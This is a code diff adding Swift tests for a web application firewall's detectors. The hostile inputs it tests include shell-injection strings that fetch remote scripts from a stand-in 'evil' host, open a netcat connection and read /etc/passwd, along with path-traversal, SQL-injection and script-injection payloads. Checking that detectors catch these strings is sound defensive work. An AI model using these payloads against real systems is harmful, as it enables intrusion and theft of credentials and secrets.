@@ -1,3 +1,4 @@
+import PnyxCore
 import Testing
 @testable import PnyxWAF
 
@@ -51,5 +52,49 @@ struct WAFDetectorTests {
         for text in benign {
             #expect(!XSSDetector.detect(Array(text.utf8)), "false positive: \(text)")
         }
+    }
+
+    @Test("command injection and path traversal: attacks found, addresses and prose with ; | and .. left alone")
+    func shellAndPaths() {
+        let commands = ["; cat /etc/passwd", "x|id", "a && whoami", "`uname -a`", "$(curl http://evil/x.sh)", "1;ls -la",
+                        "foo | nc evil 4444", "\nwget http://evil/x", "; /bin/sh -c id", "|| ping -c 3 10.0.0.1"]
+        for payload in commands {
+            #expect(CommandInjectionDetector.detect(Array(payload.utf8)), "missed: \(payload)")
+        }
+        let prose = ["Apt 2; 3rd floor", "Tom & Jerry", "red | blue | green", "rock && roll", "Main St; cat lovers welcome",
+                     "I set my alarm; sleep is good", "5 $ (five dollars)", "type of ballot", "echo chamber", "O'Brien; Nuñez"]
+        for text in prose {
+            #expect(!CommandInjectionDetector.detect(Array(text.utf8)), "false positive: \(text)")
+        }
+        let paths = ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "....//....//etc/passwd",
+                     "../../.env", "file=../../../proc/self/environ"]
+        for payload in paths {
+            #expect(PathTraversalDetector.detect(Array(payload.utf8)), "missed: \(payload)")
+        }
+        let benign = ["../images/logo.png", "/results/2026/summary.json", "Clearwater County/etc.", "see ... and more",
+                      "my passwd is secret", "1.5 ... 2.5"]
+        for text in benign {
+            #expect(!PathTraversalDetector.detect(Array(text.utf8)), "false positive: \(text)")
+        }
+    }
+
+    @Test("engine native: the detectors judge the parsed arguments, cookies and path without CRS")
+    func nativeEngine() throws {
+        var policy = WAFPolicy()
+        policy.engine = .native
+        let rules = try WAFRuleSets.load(policy)
+        #expect(rules.ruleCount < 10)
+        func find(_ target: String, body: String = "", type: String = "application/x-www-form-urlencoded") -> String? {
+            let headers: [(name: String, value: String)] = [("Host", "vote.test"), ("Content-Type", type)]
+            let transaction = Transaction(rules: rules, request: WAFRequest(method: body.isEmpty ? "GET" : "POST", target: target, headers: headers))
+            transaction.processRequestHeaders()
+            transaction.processRequestBody(Array(body.utf8))
+            return NativeEngine.find(transaction)?.detector
+        }
+        #expect(find("/lookup?q=%27%20OR%201=1--") == "sqli")
+        #expect(find("/lookup", body: "comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E") == "xss")
+        #expect(find("/api", body: #"{"host":"x; cat /etc/passwd"}"#, type: "application/json") == "command_injection")
+        #expect(find("/download?file=..%2F..%2F..%2Fetc%2Fpasswd") == "path_traversal")
+        #expect(find("/register", body: "first=Siobhan&last=O%27Brien&street=12+Main+St+%234%3B+Apt+2&note=select+a+union+rep") == nil)
     }
 }
